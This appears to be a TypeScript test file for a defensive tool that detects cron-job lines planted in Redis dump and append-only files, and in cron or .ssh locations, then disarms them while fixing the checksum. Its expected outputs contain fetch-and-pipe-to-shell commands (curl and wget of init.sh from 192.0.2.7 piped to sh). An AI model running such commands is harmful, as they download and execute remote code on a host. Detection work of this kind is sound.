import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { autostartsOf } from '../../test/autostarts.ts'
import { shown } from '../../test/kinds.ts'
import { packedRdb, redisAof } from '../../test/redis-samples.ts'
import { bytesOf, sameBytes } from '../core/bytes.ts'
import { isGap } from '../core/gap.ts'
import { memoryHost } from '../host/memory.ts'
import { crc64 } from '../parse/crc64.ts'
import { redisDump } from './redis-dump.ts'

const path = '/var/lib/redis/dump.rdb'

test('lists planted lines of data where Redis keeps it', () => {
  const tree = {
    [path]: packedRdb,
    '/srv/r/appendonlydir/a.incr.aof': redisAof,
    '/etc/redis/redis.conf': 'port 6379\ndir /srv/r\n',
    '/data/dump.rdb': 'REDIS0009 nothing',
    '/root/notes.rdb': '\n\n* * * * * x\n',
  }
  assert.deepEqual(autostartsOf(redisDump, tree).map(shown), [
    `${path}:5 root cd1 -fsSL http://192.0.2.7/init.sh | sh`,
    `${path}:8 root wget -q -O- http://192.0.2.7/init.sh | sh`,
    `${path}:8 root wget -q -O- http://192.0.2.7/init.sh | sh`,
    '/srv/r/appendonlydir/a.incr.aof:22 x/y',
  ])
})

test('a dump in a cron or .ssh directory is an entry as a whole', () => {
  const entries = autostartsOf(redisDump, {
    '/var/spool/cron/root': packedRdb,
    '/root/.ssh/authorized_keys': 'REDIS0009\0',
    '/etc/cron.d/ok': '# x\n',
  })
  assert.deepEqual(
    entries.map(e => [e.path, e.extent, redisDump.disarm(e, packedRdb)]),
    [
      ['/var/spool/cron/root', 'file', null],
      ['/root/.ssh/authorized_keys', 'file', null],
    ],
  )
})

test('disarming changes one byte a line and sets the checksum right', () => {
  let bytes = packedRdb
  for (const left of [2, 0]) {
    const [entry] = autostartsOf(redisDump, { [path]: bytes })
    assert.ok(entry)
    const after = redisDump.disarm(entry, bytes)
    assert.ok(after && after.length === bytes.length)
    assert.equal(after.subarray(0, -8).filter((byte, i) => byte !== bytes[i]).length, 1)
    assert.ok(sameBytes(crc64(after.subarray(0, -8)), after.subarray(-8)))
    assert.equal(autostartsOf(redisDump, { [path]: after }).length, left)
    assert.ok(sameBytes(redisDump.disarm(entry, after) ?? bytes, after))
    bytes = after
  }
})

test('what may not be read is told', () => {
  const rows = [...redisDump.list(memoryHost({ [path]: { gap: 'denied' } }))]
  assert.ok(rows.length > 0 && rows.every(isGap))
})

test('under garbage: never throws, keeps the length, changes no more than one byte a line and the checksum', () => {
  const changed = fc.tuple(fc.nat(packedRdb.length - 1), fc.nat(255)).map(([at, byte]) => packedRdb.with(at, byte))
  const lines = fc
    .array(fc.constantFrom('\n', '* * * * * x', '\r\n', 'a'), { maxLength: 20 })
    .map(parts => bytesOf(`REDIS0009${parts.join('')}`))
  fc.assert(
    fc.property(fc.oneof(changed, lines), bytes => {
      for (const entry of autostartsOf(redisDump, { [path]: bytes })) {
        const after = redisDump.disarm(entry, bytes)
        assert.ok(after && after.length === bytes.length)
        const left = autostartsOf(redisDump, { [path]: after }).filter(e => e.text === entry.text)
        assert.ok(left.length === 0 || sameBytes(after, bytes))
      }
    }),
  )
})
